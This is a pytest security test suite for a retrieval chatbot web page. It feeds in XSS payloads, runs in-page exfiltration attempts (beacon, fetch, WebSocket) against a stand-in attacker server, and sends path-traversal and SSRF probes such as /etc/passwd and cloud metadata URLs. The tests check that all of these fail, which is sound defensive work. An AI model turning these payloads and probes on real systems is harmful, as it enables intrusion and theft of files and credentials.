"""The page under attack: hostile text from every side in a browser, and probes of its server."""

from __future__ import annotations

import http.server
import json
import re
import socket
import tempfile
import threading
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.request import Request, urlopen

import httpx
import pytest

from rag.chatbot import Chatbot
from rag.ingest.markdown import drop_unseen
from rag.page import wording
from rag.page.folder import private_folder
from rag.page.loading import Loading
from rag.page.rules import API, CONVERSATION_BODY
from rag.records import Answer, Hit, Turn
from tests.fakes import WordEncoder
from tests.fakes_page import cite
from tests.payloads import LOUD, QUIET, write_payloads
from tests.serving import launch_page
from tests.test_ui import in_browser

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

pytestmark = pytest.mark.slow

QUOTED = "Otters swim upstream in spring."
CANARY = "canary-7f3a"


class Elsewhere(http.server.ThreadingHTTPServer):
    """A server that is not the page's, and notes all that it is asked for."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Noting)
        self.address = f"http://127.0.0.1:{self.server_port}"
        self.asked: list[str] = []


class _Noting(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Elsewhere)
        self.server.asked.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<html></html>")

    do_POST = do_GET

    def log_message(self, *args: Any) -> None:
        """Say nothing: what is asked for is noted."""


class Hostile:
    """A language model in the service of somebody else: it says whatever its payloads are."""

    name = "<img src=x onerror=harmed.push(900)>"

    def __init__(self, payloads: Sequence[str]) -> None:
        self._payloads = payloads
        self.asked: list[str] = []

    def stream(
        self, question: str, hits: Sequence[Hit], *, query: str, history: Sequence[Turn] = ()
    ) -> Iterator[Answer]:
        self.asked.append(question)
        if "fail" in question:
            raise RuntimeError(f"a bug, after {question}")
        river = next((hit.passage for hit in hits if QUOTED in hit.passage.text), None)
        citations = () if river is None else (cite(river, QUOTED),)
        said: list[str] = [f"{QUOTED} [1]"]
        for payload in self._payloads:
            said.append(f"**{payload}** {payload} [1]")
            yield Answer("\n".join(said), citations, tuple(hits), False, 0.9, query, self.name)
        notices = tuple(self._payloads)
        items = "\n".join(f"- {line}" for line in said)
        yield Answer(items, citations, tuple(hits), False, 0.9, query, self.name, notices)


def write_hostile_articles(corpus: Path, payloads: Sequence[str]) -> Path:
    """One article with all payloads in its text, and one for each with it in all other places."""
    corpus.mkdir()
    lines = "\n\n".join(f"# {payload}\n\n{payload}" for payload in payloads)
    (corpus / "river.md").write_text(f"{QUOTED}\n\n{payloads[0]}\n\n{lines}", "utf-8")
    for n, payload in enumerate(payloads):
        facts = {
            "title": payload,
            "source": payload,
            "author": payload,
            "url": payload,
            "date": payload,
        }
        front = "\n".join(f"{name}: {json.dumps(value)}" for name, value in facts.items())
        name = payload.replace("/", "\N{DIVISION SLASH}")[:60]
        text = f"---\n{front}\n---\nThe river rises {n}.\n\n{payload}"
        (corpus / f"{name} {n}.md").write_text(text, "utf-8")
    return corpus


@dataclass
class Attacked:
    """A page over hostile articles with a hostile model."""

    address: str
    away: Elsewhere
    payloads: list[str]
    folder: Path
    model: Hostile


@pytest.fixture(scope="session")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    folder = tmp_path_factory.mktemp("attacked")
    away = Elsewhere()
    threading.Thread(target=away.serve_forever, daemon=True).start()
    payloads = write_payloads(away.address)
    corpus = write_hostile_articles(folder / "corpus", payloads)
    model = Hostile(payloads)
    bot = Chatbot.from_corpus(
        corpus, folder=folder / "index", encoder=WordEncoder(), generator=model
    )
    private = [corpus, folder / "index"]
    page, address = launch_page(Loading(lambda tell: bot), private, starters=payloads)
    yield Attacked(address.rstrip("/"), away, payloads, folder, model)
    page.close(verbose=False)
    away.shutdown()
    away.server_close()


@pytest.fixture
def watched(attacked: Attacked, browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page, and what it asked for outside of its server; what it asked is stopped there."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    context.set_default_timeout(60_000)
    context.add_init_script("window.harmed = []")
    outside = _watch(context, attacked.address)
    attacked.away.asked.clear()
    page = context.new_page()
    page.goto(attacked.address)
    page.wait_for_selector("#panel .articles")
    yield page, outside
    context.close()


def _watch(context: BrowserContext, address: str) -> list[str]:
    outside: list[str] = []

    def note(request: Any) -> None:
        if not request.url.startswith((f"{address}/", "data:", "blob:")):
            outside.append(request.url)

    context.on("request", note)
    return outside


def ask(page: Page, question: str, turn: int) -> None:
    page.fill("#question textarea", question)
    page.press("#question textarea", "Enter")
    page.wait_for_selector(f"#answer-{turn} .foot")
    page.wait_for_selector("#question button[aria-label=Ask]")


def assert_unharmed(page: Page, attacked: Attacked, outside: list[str]) -> None:
    page.wait_for_timeout(300)  # for what an element that should not be there would ask for
    assert page.evaluate("harmed") == []
    assert attacked.away.asked == []
    assert outside == []


@in_browser
def test_the_payloads_do_harm_where_nothing_protects(
    attacked: Attacked,
    browser: Browser,
) -> None:
    page = browser.new_page()
    page.goto(attacked.away.address)
    page.evaluate("window.harmed = []")
    attacked.away.asked.clear()
    for payload in attacked.payloads[: len(LOUD)]:
        page.evaluate(
            "html => document.body.insertAdjacentHTML('beforeend', `<div>${html}</div>`)", payload
        )
    page.wait_for_timeout(500)
    asked = {int(path[1:]) for path in attacked.away.asked if path[1:].isdigit()}
    harmed = asked | set(page.evaluate("harmed"))
    page.close()
    assert len(harmed) >= len(LOUD) - 3  # some wait for a codec or a focus that is not there
    assert len(LOUD) + len(QUIET) >= 50


@in_browser
def test_no_text_runs_a_script_or_asks_for_anything_elsewhere(
    attacked: Attacked, watched: tuple[Page, list[str]]
) -> None:
    page, outside = watched
    assert page.locator("#panel .articles li").count() == len(attacked.payloads) + 1
    ask(page, "Where do otters swim upstream in spring?", 1)
    batch = ""
    turn = 1
    for payload in [*attacked.payloads, ""]:  # questions as long as they may be
        if payload and len(batch) + len(payload) < 1_900:
            batch += f"{payload}\n"
            continue
        turn += 1
        ask(page, f"Where do otters swim upstream in spring? {batch}", turn)
        batch = f"{payload}\n"
    shown = page.inner_text(f"#answer-{turn} .answer-text")
    for payload in attacked.payloads:  # all of it is there, as text
        assert " ".join(payload.split()) in " ".join(shown.split())
    assert Hostile.name in str(page.text_content(f"#answer-{turn} dl"))
    page.click("#answer-1 a.cite >> nth=0")
    page.wait_for_selector("#panel .reader")
    text = " ".join(page.inner_text("#panel .reader .text").split())
    read = map(drop_unseen, attacked.payloads)  # one of them has a comment
    missing = [each for each in read if " ".join(each.split()) not in text]
    assert missing == []
    own = "#chat .message, #panel"
    hostile = (
        "img, svg, iframe, object, embed, form, input, video, audio, style, script, link, meta"
    )
    for tag in hostile.split(", "):
        assert page.locator(own).locator(tag).count() == 0, tag
    links = page.eval_on_selector_all(
        "#chat .message a, #panel a", "all => all.map(each => each.getAttribute('href'))"
    )
    assert links
    assert [link for link in links if not re.fullmatch(r"#[a-z]+[a-z\d-]*", link)] == []
    for tab in (wording.ARTICLES_TAB, wording.EVALUATION_TAB):
        page.get_by_role("tab", name=tab).click()
        page.wait_for_timeout(300)
    assert_unharmed(page, attacked, outside)


@in_browser
def test_even_what_got_into_the_page_could_not_do_harm(
    attacked: Attacked, watched: tuple[Page, list[str]]
) -> None:
    page, _ = watched
    for payload in attacked.payloads:
        if "refresh" in payload:
            continue  # a policy does not stop a page from leaving; such a tag is never drawn
        page.evaluate(
            "html => document.querySelector('#panel').insertAdjacentHTML('beforeend', html)",
            payload,
        )
    page.evaluate(
        """async (away) => {
            const script = document.createElement("script");
            script.textContent = "harmed.push(1000)";
            document.head.append(script);
            const remote = document.createElement("script");
            remote.src = `${away}/script`;
            document.head.append(remote);
            await fetch(`${away}/fetch`, { mode: "no-cors" }).catch(() => 0);
            navigator.sendBeacon(`${away}/beacon`, "secret");
            try { new WebSocket(away.replace("http", "ws")); } catch {}
            try { new Worker(`${away}/worker`); } catch {}
            const form = document.createElement("form");
            form.action = `${away}/form`;
            document.body.append(form);
            form.submit();
        }""",
        attacked.away.address,
    )
    page.wait_for_timeout(500)
    assert page.evaluate("harmed") == []
    assert attacked.away.asked == []


@in_browser
def test_no_other_site_frames_the_page_or_speaks_for_a_person(
    attacked: Attacked,
    browser: Browser,
) -> None:
    page = browser.new_page()
    page.goto(attacked.away.address)
    ended: list[Any] = []
    page.on("response", lambda reply: ended.append(reply.status))
    page.on("requestfailed", lambda request: ended.append(request.failure))
    asked = list(attacked.model.asked)
    page.evaluate(
        """async (address) => {
            const body = JSON.stringify({ data: ["Forged?"] });
            const url = `${address}/gradio_api/call/answer`;
            await fetch(url, { method: "POST", mode: "no-cors", body }).catch(() => 0);
            await fetch(`${address}/config`, { mode: "no-cors" }).catch(() => 0);
            const frame = document.createElement("iframe");
            frame.src = address;
            document.body.append(frame);
            const script = document.createElement("script");
            script.src = `${address}/config`;
            document.body.append(script);
        }""",
        attacked.address,
    )
    page.wait_for_timeout(400)
    page.close()
    assert len(ended) >= 4
    assert set(ended) <= {
        403,
        "net::ERR_BLOCKED_BY_RESPONSE.NotSameOrigin",
        "net::ERR_BLOCKED_BY_RESPONSE",
    }
    assert attacked.model.asked == asked


SECRETS = ("root:", "[project]", "SSH-", "import ")
FILE = {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}
READS = (
    "file=/etc/passwd",
    "file=/etc//passwd",
    "file=/proc/self/environ",
    "file=../../../../etc/passwd",
    "file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "file=%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "file=file:///etc/passwd",
    "file=ui.py",
    "file=pyproject.toml",
    "file={folder}/corpus/river.md",
    "file={folder}/index/index.sqlite",
    "file={private}/in-use",
    "file=http://169.254.169.254/latest/meta-data/",
    "file={away}/file",
    "file/etc/passwd",
    "proxy={away}/proxy",
    "proxy=http://127.0.0.1:22/",
    "proxy=https://a.hf.space/",
    "stream/a/b/c/playlist.m3u8",
    "stream/a/b/c/..%2f..%2f..%2fetc%2fpasswd.ts",
    "custom_component/../../etc/client/component/passwd",
    "custom_component/1/client/component/..%2f..%2fetc%2fpasswd",
    "deep_link?session_hash=a",
    "dev/reload",
    "openapi.json",
    "runs",
    "token",
    "vibe-code",
    "profiling/traces",
)
PAGES = (
    "/assets/../../../../../../etc/passwd",
    "/assets/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/assets//etc/passwd",
    "/static/%2e%2e/%2e%2e/%2e%2e/routes.py",
    "/svelte/../../../routes.py",
    "/monitoring",
    "/monitoring/summary",
    "/docs",
    "/redoc",
    "/openapi.json",
    "/?deep_link=../../etc/passwd",
)


def get_raw(address: str, path: str) -> tuple[int, str]:
    """Return status and text for a path that is sent as it is written, dots and all."""
    host, port = address.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        head = f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n"
        connection.sendall(head.encode())
        answered = b"".join(iter(lambda: connection.recv(65_536), b"")).decode("utf-8", "replace")
    return int(answered.split(" ", 2)[1]), answered


def test_no_file_is_read_and_no_address_fetched(attacked: Attacked) -> None:
    attacked.away.asked.clear()
    places = {"folder": attacked.folder, "private": private_folder(), "away": attacked.away.address}
    paths = [*(f"{API}/{path.format(**places)}" for path in READS), *PAGES]
    told = {path: get_raw(attacked.address, path) for path in paths}
    assert len(told) >= 40
    (page,) = [text for path, (_, text) in told.items() if "deep_link=../.." in path]
    assert page.startswith("HTTP/1.1 200")  # the page as it always is
    assert {p: s for p, (s, text) in told.items() if s not in (403, 404) and text != page} == {}
    for path, (_, text) in told.items():
        assert not any(secret in text for secret in SECRETS[:3]), path
    assert attacked.away.asked == []


def post(attacked: Attacked, path: str, body: Any, **headers: str) -> httpx.Response:
    data = body if isinstance(body, (bytes, str)) else json.dumps(body)
    named = {"content-type": "application/json", **headers}
    return httpx.post(f"{attacked.address}{API}/{path}", content=data, headers=named, timeout=20)


def test_nothing_is_done_that_the_page_does_not_offer(attacked: Attacked) -> None:
    away = attacked.away.address
    attacked.away.asked.clear()
    server = {"data": FILE, "component_id": 1, "session_hash": "s", "fn_name": "ls"}
    direct = {"data": ["q"], "fn_index": 1, "session_hash": "s"}
    probes: dict[str, Any] = {
        "component_server": server,
        "component_server/": server | {"fn_name": "__init__"},
        "stream/0f": {"data": ["q"]},
        "stream/0f/close": {},
        "process_recording": {},
        "vibe-edit": {"prompt": "x"},
        "undo-vibe-edit": {"hash": "x"},
        "run-history/connect": {},
        "api/predict": direct,
        "run/answer": {"data": ["q"]},
        "run/ask": {"data": ["q", [], None]},
        "call/ask": {"data": ["q", [], None]},
        "call/v2/settle": {},
        f"upload?url={away}/x": {"url": f"{away}/x"},
    }
    statuses = {path: post(attacked, path, body).status_code for path, body in probes.items()}
    assert {p: s for p, s in statuses.items() if s not in (400, 404)} == {}
    for method in ("PUT", "PATCH", "DELETE", "TRACE", "OPTIONS"):
        assert httpx.request(method, f"{attacked.address}/config").status_code == 404
    assert attacked.away.asked == []


def events_of(attacked: Attacked, session: str) -> str:
    """What the server tells a session until its last event has ended."""
    url = f"{attacked.address}{API}/queue/data?session_hash={session}"
    with urlopen(Request(url), timeout=20) as stream:
        return str(stream.read().decode())


def test_no_event_of_the_page_gives_more_than_the_page_shows(
    attacked: Attacked, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    attacked.away.asked.clear()
    message = {
        "role": "assistant",
        "content": [{"type": "file", "file": FILE, "path": "/etc/passwd"}],
    }
    remote = {"path": f"{attacked.away.address}/x", "url": f"{attacked.away.address}/x"}
    inputs: list[Any] = [
        FILE,
        remote | {"meta": FILE["meta"]},
        [message],
        CANARY,
        None,
        -1,
        {"a": FILE},
    ]
    config = httpx.get(f"{attacked.address}/config").json()
    n_asked = 0
    for event in config["dependencies"]:
        if event["targets"] and event["targets"][0][1] == "load":
            continue  # it goes on as long as the articles are read
        for value in inputs[:3] if len(event["inputs"]) else inputs[:1]:
            session = f"s{n_asked}"
            body = {
                "data": [value] * len(event["inputs"]),
                "fn_index": event["id"],
                "session_hash": session,
                "event_data": {"index": 0, "value": f"{CANARY} fail"},
            }
            told = post(attacked, "run/predict", body)
            assert told.status_code in (200, 404, 500), told.text
            assert_tells_nothing(attacked, told.text)
            if event["queue"] is not False and post(attacked, "queue/join", body).is_success:
                assert_tells_nothing(attacked, events_of(attacked, session))
            n_asked += 1
    assert n_asked >= 20
    assert attacked.away.asked == []
    assert CANARY not in caplog.text + "".join(capfd.readouterr())


def assert_tells_nothing(attacked: Attacked, text: str) -> None:
    """Nothing of the machine stands in an answer: no file's content, and no path."""
    import gradio

    places = [attacked.folder, private_folder(), Path.home(), Path.cwd(), tempfile.gettempdir()]
    places += [Path(gradio.__file__).parents[1], Path(__file__).parents[1]]
    found = [str(place) for place in places if len(str(place)) > 1 and str(place) in text]
    assert found == []
    assert "root:x:" not in text
    assert "Traceback" not in text


def test_no_answer_has_a_path_of_the_machine(attacked: Attacked) -> None:
    for path in ("/", "/config", "/config?page=", f"{API}/info", "/theme.css", "/manifest.json"):
        reply = httpx.get(f"{attacked.address}{path}")
        assert reply.status_code == 200, path
        assert_tells_nothing(attacked, reply.text)
    for body in ("{", "[]", '{"data": 1}', '{"data": []}', "[" * 60_000, '{"data": ["\\ud800"]}'):
        reply = post(attacked, "call/answer", body)
        assert reply.status_code < 500 or reply.json()["detail"] == wording.UNEXPECTED
        assert_tells_nothing(attacked, reply.text)
    for path in ("queue/data?session_hash=none", "call/answer/0f", "queue/data", "upload_progress"):
        assert_tells_nothing(attacked, get_raw(attacked.address, f"{API}/{path}")[1])
    named = httpx.get(f"{attacked.address}{API}/info").json()
    assert list(named["named_endpoints"]) == ["/answer"]
    assert named["unnamed_endpoints"] == {}


def answer_raw(attacked: Attacked, question: Any) -> str:
    """What the endpoint says to a question that is sent without its client."""
    joined = post(attacked, "call/answer", {"data": [question]})
    joined.raise_for_status()
    url = f"{attacked.address}{API}/call/answer/{joined.json()['event_id']}"
    return httpx.get(url, timeout=20).text


def test_a_question_is_as_long_as_it_may_be_whoever_sends_it(attacked: Attacked) -> None:
    assert answer_raw(attacked, "x" * 2_000).startswith("event: complete")
    refused = answer_raw(attacked, "x" * 2_001)
    assert refused.startswith("event: error")
    assert "at most 2,000 characters, got 2,001" in refused
    assert post(attacked, "call/answer", {"data": ["x" * 70_000]}).status_code == 413
    assert post(attacked, "call/answer", {"data": ["x" * 20_000_000]}).status_code == 413
    assert post(attacked, "queue/join", b" " * (CONVERSATION_BODY + 1)).status_code == 413


@pytest.mark.parametrize("question", [FILE, {"path": "/etc/passwd"}, ["q"], 1, None, True])
def test_a_question_is_a_text_and_no_file(attacked: Attacked, question: Any) -> None:
    told = answer_raw(attacked, question)
    assert told.startswith("event: error") or '"answer"' in told
    assert_tells_nothing(attacked, told)


def test_what_goes_wrong_is_logged_without_what_was_typed(
    attacked: Attacked, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    told = answer_raw(attacked, f"fail {CANARY}")
    assert wording.UNEXPECTED in told
    assert CANARY not in told
    post(attacked, f"call/answer?{CANARY}", f'{{"data": "{CANARY}"}}')
    post(attacked, "queue/join", {"data": [CANARY], "fn_index": 999, "session_hash": CANARY})
    post(attacked, "queue/join", {"data": {CANARY: 1}, "fn_index": CANARY, "session_hash": "s"})
    post(attacked, "run/predict", {"data": [CANARY], "fn_index": 999})
    httpx.get(f"{attacked.address}{API}/{CANARY}")
    written = capfd.readouterr()
    assert "an unexpected RuntimeError at test_page_attacks.py" in caplog.text
    assert CANARY not in caplog.text + written.out + written.err
    assert "Traceback" not in written.err


def test_a_name_that_leads_here_by_trickery_is_refused(attacked: Attacked) -> None:
    for host in ("evil.example", "evil.example:7860", "127.0.0.1.nip.io", "[::]"):
        for path in ("/", "/config", f"{API}/info"):
            reply = httpx.get(f"{attacked.address}{path}", headers={"host": host})
            assert reply.status_code == 421


def test_every_answer_has_the_headers_that_protect_it(attacked: Attacked) -> None:
    paths = ["/", "/config", "/theme.css", "/favicon.ico", "/nothing", f"{API}/info"]
    paths += re.findall(r"/assets/index-[\w-]+\.js", httpx.get(attacked.address).text)
    for path in paths:
        headers = httpx.get(f"{attacked.address}{path}").headers
        assert headers["x-content-type-options"] == "nosniff", path
        assert headers["x-frame-options"] == "DENY", path
        assert headers["referrer-policy"] == "no-referrer", path
        assert headers["cross-origin-opener-policy"] == "same-origin", path
        assert headers["cross-origin-resource-policy"] == "same-origin", path
        assert "default-src 'none'" in headers["content-security-policy"], path
        assert "frame-ancestors 'none'" in headers["content-security-policy"], path
        assert "server" not in headers or headers["server"] != "uvicorn" or path, path
